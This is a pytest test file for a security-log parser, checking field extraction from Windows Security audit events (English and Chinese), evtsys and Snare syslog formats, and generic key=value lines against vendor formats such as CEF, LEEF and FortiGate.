@pytest.mark.parametrize("text,code,actor", [(ZH_4732, "4732", "admin"), (EN_4728, "4728", "Administrator")])
def test_group_member_added_text(text: str, code: str, actor: str) -> None:
    doc = p(f"<29>Nov 25 10:00:00 GOV-DC01 Security-Auditing: {code}: AUDIT_SUCCESS {text}")
    assert g(doc, "event.code") == code and g(doc, "event.action") == "added-member-to-group"
    assert g(doc, "group.name") == "Domain Admins" and g(doc, "group.domain") == "GOV"  # a name with a space
    assert g(doc, "group.id") == "S-1-5-21-1-2-3-512"
    assert g(doc, "user.target.name") == "svc_bak" and g(doc, "user.target.id") == "S-1-5-21-1-2-3-1109"
    assert g(doc, "user.name") == actor


def test_group_member_added_recognized_by_title() -> None:
    doc = p(ZH_4732.replace("Domain Admins", "Administrators"), "windows_security")
    assert g(doc, "event.code") == "4732" and g(doc, "group.name") == "Administrators"


# evtsys squeezes the message to single spaces: a value ends before the next label.
EVTSYS_4624 = [
    "<29>Jul 29 15:03:22 DC01 Security-Auditing: 4624: AUDIT_SUCCESS An account was successfully logged on. "
    "Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 New Logon: "
    "Security ID: S-1-5-7 Account Name: ANONYMOUS LOGON Account Domain: NT AUTHORITY Logon ID: 0x2A8B7F "
    "Process Information: Process ID: 0x1a4 Process Name: C:\\Program Files\\Agent\\agent.exe "
    "Network Information: Workstation Name: WIN-ABC Source Network Address: 10.10.1.20 Source Port: 52311",
    "<29>Jul 29 15:03:22 DC01 Security-Auditing: 4624: AUDIT_SUCCESS "
    + ZH_4624.replace("帐户名: Administrator 帐户域: WIN-ABC", "帐户名: ANONYMOUS LOGON 帐户域: NT AUTHORITY")
    .replace("登录类型: 10", "登录类型: 3")
    .replace("C:\\Windows\\System32\\winlogon.exe", "C:\\Program Files\\Agent\\agent.exe"),
]  # fmt: skip


@pytest.mark.parametrize("line", EVTSYS_4624)
def test_values_with_spaces_kept_whole_evtsys(line: str) -> None:
    doc = p(line)
    assert g(doc, "user.name") == "ANONYMOUS LOGON" and g(doc, "user.domain") == "NT AUTHORITY"
    assert g(doc, "process.executable") == "C:\\Program Files\\Agent\\agent.exe"
    assert g(doc, "process.name") == "agent.exe" and g(doc, "winlog.logon.type") == "3"
    assert (g(doc, "source.domain"), g(doc, "source.ip"), g(doc, "source.port")) == ("WIN-ABC", "10.10.1.20", 52311)


def test_values_with_spaces_kept_whole_snare() -> None:
    # Snare turns the message's tabs and line breaks into runs of spaces between fields.
    message = ("An account was successfully logged on.    Subject:   Security ID:  S-1-0-0   Account Name:  -   "
               "Account Domain:  -   Logon ID:  0x0    Logon Type:   3    New Logon:   Security ID:  S-1-5-7   "
               "Account Name:  ANONYMOUS LOGON   Account Domain:  NT AUTHORITY   Logon ID:  0x2A8B7F    "
               "Network Information:   Workstation Name:  KALI   Source Network Address:  198.51.100.7   "
               "Source Port:  49152")  # fmt: skip
    line = ("<14>May  1 10:00:00 DC01 MSWinEventLog\t1\tSecurity\t123\tWed May 01 10:00:00 2024\t4624\t"
            "Microsoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\tDC01\tLogon\t\t"
            + message + "\t7")  # fmt: skip
    doc = p(line)
    assert g(doc, "event.code") == "4624"
    assert g(doc, "user.name") == "ANONYMOUS LOGON" and g(doc, "user.domain") == "NT AUTHORITY"
    assert g(doc, "source.ip") == "198.51.100.7" and g(doc, "source.port") == 49152


def test_real_chinese_5156_sample_from_corpus() -> None:
    rows = [json.loads(x) for x in CN_SAMPLES.read_text(encoding="utf-8").splitlines() if x.strip()]
    raw = next(r["raw"] for r in rows if r["vendor"] == "microsoft" and "5156" in r["raw"])
    doc = p(raw)
    assert g(doc, "event.code") == "5156" and g(doc, "event.outcome") == "success"
    assert (g(doc, "source.ip"), g(doc, "source.port")) == ("172.16.0.126", 5353)
    assert (g(doc, "destination.ip"), g(doc, "destination.port")) == ("224.0.0.251", 5353)
    assert g(doc, "network.transport") == "udp" and g(doc, "network.direction") == "inbound"
    assert g(doc, "process.name") == "svchost.exe"


# --------------------------------------------------------------------------- generic key=value


def test_kv_generic_last_resort() -> None:
    doc = p("<13>Mar  1 10:00:00 gw01 appd: 源地址=10.0.0.1 目的地址=10.0.0.2 目的端口=443 用户名=张三 结果=失败")
    assert g(doc, "event.dataset") == "kv.generic"
    assert (g(doc, "source.ip"), g(doc, "destination.ip"), g(doc, "destination.port")) == ("10.0.0.1", "10.0.0.2", 443)
    assert g(doc, "user.name") == "张三" and g(doc, "event.outcome") == "failure"


def test_kv_generic_needs_three_pairs() -> None:
    doc = p("<13>Mar  1 10:00:00 gw01 appd: started with a=1 b=2")
    assert g(doc, "event.dataset") == "syslog.rfc3164"


@pytest.mark.parametrize(
    "line,dataset",
    [
        (f"<189>{FORTI_TRAFFIC}", "fortinet.fortigate"),
        ("CEF:0|V|P|1|1|n|3|a=1 b=2 c=3", "cef.log"),
        ("LEEF:1.0|V|P|1|1|a=1\tb=2\tc=3", "leef.log"),
        (AUDIT_LOGIN, "auditd.log"),
        (PAN_THREAT, "panw.threat"),
    ],
)
def test_specific_formats_win_over_generic_kv(line: str, dataset: str) -> None:
    assert g(p(line), "event.dataset") == dataset
